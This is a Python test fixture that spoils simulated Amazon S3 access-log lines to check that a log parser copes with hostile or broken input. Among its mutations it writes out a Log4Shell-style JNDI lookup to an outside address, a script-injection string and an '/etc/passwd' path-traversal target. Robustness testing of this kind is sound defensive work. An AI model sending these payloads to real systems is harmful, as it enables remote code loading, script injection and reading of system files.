"""Lines as hostile or broken as logs hold them: a few made of every hundred honest ones.

What a client can do to a line (it chooses Request-URI, Referer and User-Agent, and Amazon writes
them raw), what Amazon itself has done (stray tokens, doubled blanks, fields nobody knows), and
what happens to files (cut lines, other logs' lines, binary junk). Some of it can still be read,
some is ambiguous, some is no record at all; a reader must account for every line.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import TypeAlias

from bucketlog.accesslog.scenery import Draw

Spoil: TypeAlias = Callable[[str, Draw], str]

_FORGED_TAIL = (
    '" "gull/1.0" - AAAAforgedHostIdAAAA= SigV4 TLS_AES_128_GCM_SHA256 AuthHeader '
    "forged.example TLSv1.3 - - us-east-1"
)
_FORGED_BLOCK = ' HTTP/1.1" 200 - 512 512 3 2 "-" "gull/1.0" -'


def spoil(lines: list[str], draw: Draw) -> list[str]:
    """The same number of lines, about one in twelve of them spoilt; latin-1 stands for bytes."""
    for index, line in enumerate(lines):
        if draw.below(12) == 0:
            lines[index] = draw.pick(_WAYS)(line, draw)
    return lines


def _in_agent(text: str) -> Spoil:
    """Text put at the end of the User-Agent."""

    def way(line: str, draw: Draw) -> str:
        body, quote, tail = line.rpartition('"')
        return f"{body}{text}{quote}{tail}" if quote else line

    return way


def _in_referer(text: str) -> Spoil:
    """Text put at the end of the Referer."""

    def way(line: str, draw: Draw) -> str:
        body, divider, tail = line.rpartition('" "')
        return f"{body}{text}{divider}{tail}" if divider else line

    return way


def _in_target(text: str) -> Spoil:
    """Text put at the end of the Request-URI's target."""

    def way(line: str, draw: Draw) -> str:
        body, protocol, tail = line.partition(' HTTP/1.1"')
        return f"{body}{text}{protocol}{tail}" if protocol else line

    return way


def _instead(text: str) -> Spoil:
    """Something else altogether."""
    return lambda line, draw: f"{text}\n"


def _doubled_blank(line: str, draw: Draw) -> str:
    tokens = line.split(" ")
    place = 1 + draw.below(6)
    return f"{' '.join(tokens[:place])}  {' '.join(tokens[place:])}"


def _cut(line: str, draw: Draw) -> str:
    return f"{line[: draw.below(len(line))].rstrip()}\n"


def _junk(line: str, draw: Draw) -> str:
    text = "".join([chr(draw.below(256)) for _ in range(1 + draw.below(300))])
    return text.replace("\n", " ") + "\n"


_WAYS: tuple[Spoil, ...] = (
    _in_agent(' (14" screen)'),
    _in_agent('"'),
    _in_agent("\\"),
    _in_agent("\x1b[31mred\x1b[0m\x07"),
    _in_agent(" \xff\xfe\xc3("),
    _in_agent(" \xe2\x9a\x93 caf\xc3\xa9"),
    _in_agent(_FORGED_TAIL),
    _in_agent("${jndi:ldap://198.51.100.9/a}"),
    _in_referer('?q="tide tables"'),
    _in_referer('"'),
    _in_referer('" "gull/1.0'),
    _in_referer("<script>alert(1)</script>"),
    _in_target('?name="a b".jpg'),
    _in_target('"'),
    _in_target("/\xc4\xbc.rar\xff"),
    _in_target(_FORGED_BLOCK),
    _in_target("/../../etc/passwd%00"),
    _doubled_blank,
    lambda line, draw: line.replace("\n", " \n"),
    lambda line, draw: line.replace("\n", "\r\n"),
    lambda line, draw: line.replace("\n", " kelp barnacle\n"),
    lambda line, draw: line.replace("+0000]", "-0500]"),
    lambda line, draw: line.replace("/20", "/20x", 1),
    _cut,
    _junk,
    _instead(""),
    _instead("   "),
    _instead('203.0.113.24 - - [17/Mar/2026:09:41:07 +0000] "GET /a HTTP/1.1" 200 12 "-" "gull/1"'),
    _instead('{"eventSource": "s3.amazonaws.com", "eventName": "GetObject"}'),
    _instead("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03 not really gzip"),
)
